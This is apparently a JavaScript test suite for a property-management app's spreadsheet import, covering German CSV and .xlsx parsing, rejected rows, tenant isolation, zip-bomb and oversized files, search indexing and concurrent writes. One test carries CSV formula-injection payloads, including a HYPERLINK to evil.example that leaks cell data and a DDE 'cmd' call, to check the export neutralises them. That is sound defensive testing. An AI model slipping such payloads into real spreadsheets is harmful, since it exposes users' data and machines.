// The property import with the committed fixtures: a real .xlsx written by
// LibreOffice and a CSV as German Excel writes it, re-imports that update,
// rejected rows with their numbers, rows of one file that name one property,
// the search words of what was imported, 10,000 rows of an .xlsx, broken
// files, and the page's three steps.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { startStack, repo } from './stack.mjs';
import { newManager } from './client.mjs';
import { xlsx } from './xlsx.mjs';

const fixture = (name) => readFileSync(`${repo}/tests/fixtures/import/${name}`);
let stack, a;

function upload(client, bytes, name, path = '/api/v1/properties/import', fields = {}) {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append('file', new Blob([bytes]), name);
  return client.json(path, { method: 'POST', body: form });
}

async function byReference(client) {
  const all = [];
  let after = '';
  do {
    const res = await client.json(`/api/v1/properties?limit=200${after ? `&after=${after}` : ''}`);
    all.push(...res.body.items);
    after = res.body.next;
  } while (after);
  return Object.fromEntries(all.map((p) => [p.reference_id, p]));
}

before(async () => {
  stack = await startStack({ env: { SESSION_BURST: '1000', SESSION_RATE: '1000r/s' } });
  a = await newManager(stack);
});
after(async () => { await stack?.stop(); });

test('the LibreOffice .xlsx: every row, postcodes with their zero, extra columns ignored', async () => {
  const res = await upload(a, fixture('properties.xlsx'), 'Liegenschaften.xlsx');
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.deepEqual(res.body, { created: 13, updated: 0, skipped: 0, errors: [] });
  const p = await byReference(a);
  assert.equal(p['REF-002'].zip, '01067', 'a German postcode stored as a number gets its zero back');
  assert.equal(p['REF-002'].notes, 'Schlüssel beim Hausmeister, Tel. 0351 123');
  assert.equal(p['REF-003'].notes, 'Eingang "Hinterhof", 2. Tür');
  assert.equal(p['REF-010'].zip, '6020', 'an Austrian postcode stays four digits');
  assert.equal(p['1004'].name, 'Am Stadtpark');
  assert.equal(p['123456789012'].city, 'Leipzig');
  assert.ok(Object.values(p).some((x) => x.name === 'Gartenhaus' && /^L-/.test(x.reference_id)), 'a generated reference ID');
});

test('importing the same file again updates by reference ID and skips known rows without one', async () => {
  const res = await upload(a, fixture('properties.xlsx'), 'Liegenschaften.xlsx');
  assert.deepEqual(res.body, { created: 0, updated: 12, skipped: 1, errors: [] });
});

test('the German Excel CSV (Windows-1252, semicolons, CRLF) updates and adds', async () => {
  const res = await upload(a, fixture('properties-excel-de.csv'), 'export.csv');
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.deepEqual(res.body, { created: 1, updated: 5, skipped: 0, errors: [] });
  const p = await byReference(a);
  assert.equal(p['REF-002'].zip, '01067');
  assert.equal(p['REF-003'].notes, 'Eingang „Hinterhof“; Miete 1.200 €');
  assert.equal(p['REF-006'].notes, 'Erdgeschoss: Café\nObergeschoss: Büros');
  assert.ok(Object.values(p).some((x) => x.name === 'Grüner Weg' && x.notes === 'Nebenkosten 3,50 €/m²'));
});

test('a row with an error is reported with its row number, not written, and downloadable', async () => {
  const csv = 'Street,Name,Zip\r\nA-Weg 1,Gut 1,12345\r\nB-Weg 2,,12345\r\nC-Weg 3,' + 'x'.repeat(201) + ',1\r\nD-Weg 4,Gut 2,\r\n';
  const before = Object.keys(await byReference(a)).length;
  const res = await upload(a, Buffer.from(csv), 'fehler.csv');
  assert.equal(res.status, 200);
  assert.equal(res.body.created, 2);
  assert.deepEqual(res.body.errors.map((e) => e.row), [3, 4]);
  assert.match(res.body.errors[0].message, /Name/);
  assert.equal(Object.keys(await byReference(a)).length, before + 2);
  const download = await a.fetch(res.body.rejected_url.replace('/app/', '/app/'));
  assert.equal(download.status, 200);
  assert.match(download.headers.get('content-type'), /^text\/csv/);
  assert.match(download.headers.get('content-disposition'), /attachment/);
  const text = await download.text();
  assert.ok(text.includes('B-Weg 2') && text.includes('C-Weg 3') && !text.includes('A-Weg 1'));
  const b = await newManager(stack);
  assert.equal((await b.fetch(res.body.rejected_url)).status, 404, 'another organisation cannot fetch it');
});

test('the rejected rows\' CSV makes every cell a spreadsheet would run as a formula plain text', async () => {
  // Rows without a name are rejected; their other cells come back in the CSV.
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
  const csv = `Name;Street;Notes\r\n${formulas.map((f) => `;"${f.replace(/"/g, '""')}";Hinweis`).join('\r\n')}\r\n`;
  const res = await upload(a, Buffer.from(csv), 'formeln.csv');
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.equal(res.body.errors.length, formulas.length);
  const text = await (await a.fetch(res.body.rejected_url)).text();
  for (const f of formulas) {
    assert.ok(text.includes(`"'${f.replace(/"/g, '""')}"`), `${f} is not neutralised in:\n${text}`);
  }
  // No cell of the file starts with a formula's first character.
  for (const line of text.split('\r\n').filter(Boolean)) {
    for (const cell of line.match(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g).map((c) => c.replace(/^;/, ''))) {
      assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `a live cell: ${cell}`);
    }
  }
});

test('another organisation\'s reference IDs are never touched', async () => {
  const b = await newManager(stack);
  const res = await upload(b, fixture('properties-excel-de.csv'), 'export.csv');
  assert.deepEqual({ ...res.body, errors: undefined }, { created: 6, updated: 0, skipped: 0, errors: undefined });
  assert.equal((await byReference(a))['REF-001'].street, 'Müllerstraße 12');
});

test('broken, foreign and oversized files: 400, 415, 413, and nothing written', async () => {
  const c = await newManager(stack);
  const count = () => stack.sql(`SELECT COUNT(*) FROM properties WHERE org_id = ${c.user.org_id}`).trim();
  const start = count();
  for (const [name, status] of [['not-a-zip.xlsx', 400], ['truncated.xlsx', 400], ['bomb.xlsx', 400],
    ['bomb-lying.xlsx', 400], ['missing-sheet.xlsx', 400], ['not-a-spreadsheet.pdf', 415]]) {
    const res = await upload(c, fixture(name), name);
    assert.equal(res.status, status, name);
    assert.ok(res.body.error.code, name);
  }
  const many = ['Name'].concat(Array.from({ length: 10001 }, (_, i) => `Haus ${i}`)).join('\n');
  const over = await upload(c, Buffer.from(many), 'viele.csv');
  assert.equal(over.status, 413);
  assert.equal(over.body.error.code, 'too_large');
  const big = await upload(c, Buffer.concat([Buffer.from('Name\n'), Buffer.alloc(11 << 20, 0x61)]), 'gross.csv');
  assert.equal(big.status, 413);
  const noName = await upload(c, Buffer.from('Ort,PLZ\nBerlin,10115\n'), 'ohne.csv');
  assert.equal(noName.status, 422);
  assert.equal(noName.body.error.field, 'file');
  assert.equal(count(), start);
  const exactly = ['Name'].concat(Array.from({ length: 10000 }, (_, i) => `Haus ${i}`)).join('\n');
  const ok = await upload(c, Buffer.from(exactly), 'genau.csv');
  assert.equal(ok.status, 200);
  assert.equal(ok.body.created, 10000);
});

test('the page: upload, preview with the detected mapping, a changed mapping, the result', async () => {
  const d = await newManager(stack);
  const form = await (await d.fetch('/app/properties/import')).text();
  assert.match(form, /enctype="multipart\/form-data"/);
  const csv = Buffer.from('Bezeichnung;Ort;Name\r\nHaus Eins;Bonn;egal\r\nHaus Zwei;Köln;egal\r\n');
  const preview = await d.fetch('/app/properties/import/preview', {
    method: 'POST', body: (() => { const f = new FormData(); f.append('csrf_token', d.csrf); f.append('file', new Blob([csv]), 'liste.csv'); return f; })(),
    headers: { Origin: stack.base },
  });
  assert.equal(preview.status, 200);
  const html = await preview.text();
  assert.match(html, /<option value="2" selected>Name<\/option>/, 'Name detected in column 3');
  assert.ok(html.includes('<td>Haus Eins</td>'));
  const upload_ = /name="upload" value="([^"]+)"/.exec(html)[1];
  const result = await d.fetch('/app/properties/import', {
    method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: stack.base },
    body: new URLSearchParams({ csrf_token: d.csrf, upload: upload_, extension: '.csv', column_name: '0', column_city: '1' }).toString(),
  });
  assert.equal(result.status, 200);
  assert.match(await result.text(), /<strong>2<\/strong>/);
  const props = (await d.json('/api/v1/properties?q=Haus')).body.items.map((p) => `${p.name}/${p.city}`).sort();
  assert.deepEqual(props, ['Haus Eins/Bonn', 'Haus Zwei/Köln']);
  const again = await d.fetch('/app/properties/import', {
    method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: stack.base },
    body: new URLSearchParams({ csrf_token: d.csrf, upload: upload_, extension: '.csv' }).toString(),
  });
  assert.equal(again.status, 422, 'a kept upload is used once');
});

async function search(client, q) {
  const res = await client.json(`/api/v1/properties?q=${encodeURIComponent(q)}&limit=200`);
  assert.equal(res.status, 200);
  return res.body.items.map((p) => p.name).sort();
}

test('rows of one file that name one property: as if written one after the other', async () => {
  const e = await newManager(stack);
  const csv = ['Referenz-ID;Name;Straße;Ort',
    'DUP-1;Erstes Haus;;Altstadt',
    'dup-1;Zweites Haus;;Neustadt',
    ';Zweites Haus;;Irgendwo',
    ';Einzeln;Weg 1;Bonn',
    ';einzeln;WEG 1;Köln',
    'NEU-9;Neunter;;Bonn'].join('\r\n');
  const res = await upload(e, Buffer.from(csv), 'doppelt.csv');
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.deepEqual(res.body, { created: 3, updated: 1, skipped: 2, errors: [] });
  const p = await byReference(e);
  assert.equal(p['DUP-1'].name, 'Zweites Haus', 'the later row of a reference ID wins');
  assert.equal(p['DUP-1'].city, 'Neustadt');
  assert.equal(Object.values(p).filter((x) => /^einzeln$/i.test(x.name)).length, 1);
  assert.equal(p['NEU-9'].city, 'Bonn');
  assert.deepEqual(await search(e, 'neustadt'), ['Zweites Haus']);
  assert.deepEqual(await search(e, 'altstadt'), [], 'the words of what was overwritten are gone');
  assert.deepEqual(await search(e, 'bonn'), ['Einzeln', 'Neunter']);
});

test('the search finds what was imported, and a re-import keeps its words up to date', async () => {
  const f = await newManager(stack);
  const first = 'Referenz-ID,Name,Straße,PLZ,Ort\nS-1,Haus Sonne,Lindenweg 1,04109,Leipzig\nS-2,Haus Mond,Ahornweg 2,01067,Dresden\n,Haus Stern,Eichenweg 3,99084,Erfurt\n';
  assert.deepEqual((await upload(f, Buffer.from(first), 'a.csv')).body, { created: 3, updated: 0, skipped: 0, errors: [] });
  assert.deepEqual(await search(f, 'leipzig'), ['Haus Sonne']);
  assert.deepEqual(await search(f, 'S-2'), ['Haus Mond']);
  assert.deepEqual(await search(f, '0410'), ['Haus Sonne']);
  assert.deepEqual(await search(f, 'eichen'), ['Haus Stern']);
  const star = Object.values(await byReference(f)).find((x) => x.name === 'Haus Stern');
  assert.match(star.reference_id, /^L-\d{5}/, 'a generated reference ID');
  assert.deepEqual(await search(f, star.reference_id), ['Haus Stern']);
  const second = 'Referenz-ID,Name,Straße,PLZ,Ort\nS-1,Haus Sonne,Lindenweg 1,04109,Leipzig\nS-2,Haus Mond,Ahornweg 2,06108,Halle\n';
  assert.deepEqual((await upload(f, Buffer.from(second), 'b.csv')).body, { created: 0, updated: 2, skipped: 0, errors: [] });
  assert.deepEqual(await search(f, 'dresden'), []);
  assert.deepEqual(await search(f, 'halle'), ['Haus Mond']);
  assert.deepEqual(await search(f, 'haus'), ['Haus Mond', 'Haus Sonne', 'Haus Stern']);
});

test('10,000 rows of an .xlsx: every one written, found, and updated by the same file again', async () => {
  const g = await newManager(stack);
  const cities = [['10115', 'Berlin'], ['50667', 'Köln'], ['80331', 'München'], ['20095', 'Hamburg'], ['01067', 'Dresden']];
  const rows = [['Referenz-ID', 'Name', 'Straße', 'PLZ', 'Ort']];
  for (let i = 1; i <= 10000; i++) {
    const [zip, city] = cities[i % 5];
    rows.push([`X-${String(i).padStart(5, '0')}`, `Wohnanlage ${i}`, `Parkweg ${i % 300}`, zip, city]);
  }
  const file = xlsx(rows);
  const res = await upload(g, file, 'gross.xlsx');
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.deepEqual(res.body, { created: 10000, updated: 0, skipped: 0, errors: [] });
  assert.deepEqual(await search(g, 'X-04711'), ['Wohnanlage 4711']);
  assert.deepEqual(await search(g, 'wohnanlage 9999'), ['Wohnanlage 9999']);
  const org = g.user.org_id;
  assert.equal(stack.sql(`SELECT COUNT(*) FROM properties p WHERE p.org_id = ${org}
    AND NOT EXISTS (SELECT 1 FROM property_words w WHERE w.property_id = p.id)`).trim(), '0', 'every property has its words');
  const again = await upload(g, file, 'gross.xlsx');
  assert.deepEqual(again.body, { created: 0, updated: 10000, skipped: 0, errors: [] });
  assert.equal(stack.sql(`SELECT COUNT(*) FROM properties WHERE org_id = ${org}`).trim(), '10001');
});

test('the page shows the import running while it writes, then only the result', async () => {
  const h = await newManager(stack);
  const lines = ['Referenz-ID;Name;Ort'];
  for (let i = 1; i <= 3000; i++) lines.push(`P-${i};Haus ${i};Halle`);
  const preview = await h.fetch('/app/properties/import/preview', {
    method: 'POST', headers: { Origin: stack.base },
    body: (() => { const f = new FormData(); f.append('csrf_token', h.csrf); f.append('file', new Blob([lines.join('\r\n')]), 'viele.csv'); return f; })(),
  });
  const upload_ = /name="upload" value="([^"]+)"/.exec(await preview.text())[1];
  const res = await h.fetch('/app/properties/import', {
    method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Origin: stack.base },
    body: new URLSearchParams({ csrf_token: h.csrf, upload: upload_, extension: '.csv' }).toString(),
  });
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-length'), null, 'sent as it is made');
  // The first part arrives while the rows are still being written.
  const reader = res.body.getReader();
  const decoder = new TextDecoder();
  const parts = [];
  for (let r = await reader.read(); !r.done; r = await reader.read()) parts.push(decoder.decode(r.value, { stream: true }));
  const html = parts.join('');
  const running = html.indexOf('<div class="import-run" role="status">');
  assert.ok(running > 0 && html.includes('Wird importiert', running));
  assert.ok(!parts[0].includes('Neu angelegt'), 'the start went out before the result');
  const bars = [...html.matchAll(/<progress max="100" value="(\d+)"/g)].map((m) => Number(m[1]));
  assert.ok(bars.length >= 2 && bars.at(-1) === 100, `bars ${bars}`);
  assert.deepEqual([...bars].sort((x, y) => x - y), bars, 'the bars only grow');
  const closed = html.indexOf('</div>', html.lastIndexOf('<progress'));
  assert.ok(closed > 0 && closed < html.indexOf('Neu angelegt'), 'the result follows the running part');
  assert.match(html, /Neu angelegt:\s*<strong>3000<\/strong>/);
  assert.ok(html.trimEnd().endsWith('</html>'));
  const again = await h.fetch('/app/properties/import/preview');
  assert.equal(again.status, 303, 'the preview\'s address reloaded leads back to the form');
  assert.equal(again.headers.get('location'), '/app/properties/import');
});

// The new properties' search words go in without first removing theirs
// (none): that removal locked the gap after the index's last key, where
// another import or a create at the same time inserts, and MariaDB refused
// one of them as a deadlock (503).
test('imports and creates at the same instant all succeed, and all are found', async () => {
  const rows = (tag, n) => ['Name;Referenz-ID;Ort', ...Array.from({ length: n }, (_, i) => `Zeitgleich ${tag} ${i};Z-${tag}-${i};Gleichstadt`)].join('\n');
  for (const round of [1, 2]) {
    const answers = await Promise.all([
      upload(a, Buffer.from(rows(`a${round}`, 300)), 'a.csv'),
      upload(a, Buffer.from(rows(`b${round}`, 300)), 'b.csv'),
      ...Array.from({ length: 6 }, (_, i) => a.json('/api/v1/properties', { method: 'POST', body: { name: `Zeitgleich c${round} ${i}`, city: 'Gleichstadt' } })),
    ]);
    assert.deepEqual(answers.map((r) => r.status), [200, 200, 201, 201, 201, 201, 201, 201], JSON.stringify(answers.find((r) => r.status >= 300)?.body));
  }
  const found = await a.json('/api/v1/properties?q=zeitgleich+gleichstadt&limit=1');
  assert.equal(found.status, 200);
  assert.equal(Number(stack.sql(`SELECT COUNT(DISTINCT property_id) FROM property_words WHERE org_id = ${a.user.org_id} AND word = 'gleichstadt'`).trim()), 2 * (600 + 6));
});
